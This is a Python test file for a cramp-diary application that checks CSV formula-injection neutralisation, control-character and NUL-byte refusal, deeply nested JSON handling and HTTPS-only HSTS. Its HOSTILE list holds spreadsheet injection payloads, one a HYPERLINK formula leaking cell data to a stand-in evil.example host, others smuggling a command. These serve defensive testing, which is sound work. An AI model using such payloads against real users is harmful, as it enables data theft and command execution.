"""Safe files (OWASP CSV injection, hostile JSON, control characters) and HSTS over HTTPS."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from crampcare.diary.csv_io import neutralise, restore
from crampcare.records import EPISODE_FIELDS
from tests.test_diary_cli import run
from tests.web_support import Browser, app, owner, sqlite_url

__all__ = ["app", "owner", "sqlite_url"]

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd", "=1+2|cmd"]


@given(st.text())
def test_neutralise_then_restore_gives_back_any_text(text: str) -> None:
    assert restore(neutralise(text)) == text


def test_no_exported_cell_starts_like_a_formula(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'd.sqlite'}"
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(EPISODE_FIELDS)
    for i, note in enumerate(HOSTILE):  # as another program would write them: unprotected
        writer.writerow([f"2026-11-{10 + i}T03:10:00+01:00", "60", "calf", "left", "5", "true", "", note])
    source = tmp_path / "in.csv"
    source.write_text(text.getvalue(), encoding="utf-8")
    code, _, err = run("diary", "import", str(source), "--db", db)
    assert code == 0, err
    code, out, _ = run("diary", "export", "--format", "csv", "--db", db)
    assert code == 0
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # JSON keeps the exact text, and the CSV export reads back to the same notes.
    notes = sorted(
        e["notes"] for e in json.loads(run("diary", "export", "--format", "json", "--db", db)[1])["episodes"]
    )
    assert notes == sorted(HOSTILE)
    again = tmp_path / "again.sqlite"
    exported = tmp_path / "out.csv"
    exported.write_text(out, encoding="utf-8")
    assert run("diary", "import", str(exported), "--db", f"sqlite:///{again}")[0] == 0
    reread = json.loads(run("diary", "export", "--format", "json", "--db", f"sqlite:///{again}")[1])
    assert sorted(e["notes"] for e in reread["episodes"]) == sorted(HOSTILE)


def test_control_characters_are_refused_with_the_line(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'd.sqlite'}"
    header = "date,stretched_before_bed,fluid_litres,caffeine_drinks,alcohol_units,exercise_minutes,notes\n"
    source = tmp_path / "bell.csv"
    source.write_text(header + "2026-11-10,true,1.5,1,0,20,fine\n2026-11-11,true,1.5,1,0,20,bad\x07note\n")
    code, _, err = run("diary", "import", str(source), "--db", db)
    assert code == 2 and f"{source}:3: notes:" in err and "U+0007" in err
    # A NUL byte is not text at all: the whole file is refused, with a plain reason.
    source = tmp_path / "nul.csv"
    source.write_text(header + "2026-11-11,true,1.5,1,0,20,bad\x00note\n")
    code, _, err = run("diary", "import", str(source), "--db", db)
    assert code == 2 and "not UTF-8" in err and "nothing imported" in err
    assert "Traceback" not in err


def test_nested_json_gets_a_clear_answer(tmp_path: Path, app: Any, owner: Browser) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    path = tmp_path / "deep.json"
    path.write_text(deep, encoding="utf-8")
    code, _, err = run("diary", "import", str(path), "--db", f"sqlite:///{tmp_path / 'd.sqlite'}")
    assert code == 2 and "nested too deeply" in err and "Traceback" not in err
    code, _, err = run("assess", "--input", str(path))
    assert code == 2 and "nested too deeply" in err
    r = owner.client.post("/api/v1/assess", content=deep, headers={"Content-Type": "application/json"})
    assert r.status_code == 422 and "nested too deeply" in r.text
    bad = owner.client.post("/api/v1/assess", content="{oops", headers={"Content-Type": "application/json"})
    assert bad.headers["content-type"].startswith("application/json")


def test_a_nul_byte_in_a_note_is_refused_by_the_api(app: Any, owner: Browser) -> None:
    body = {"started_at": "2026-11-20T03:10:00+01:00", "muscle": "calf", "side": "left", "notes": "a\x00b"}
    r = owner.api("POST", "/episodes", json=body)
    assert r.status_code == 422 and "notes" in r.text
    assert owner.api("GET", "/episodes").json() == []


def test_hsts_only_over_https(app: Any) -> None:
    plain = TestClient(app).get("/knowledge")
    assert "strict-transport-security" not in plain.headers
    secure = TestClient(app, base_url="https://testserver").get("/knowledge")
    assert secure.headers["strict-transport-security"].startswith("max-age=")
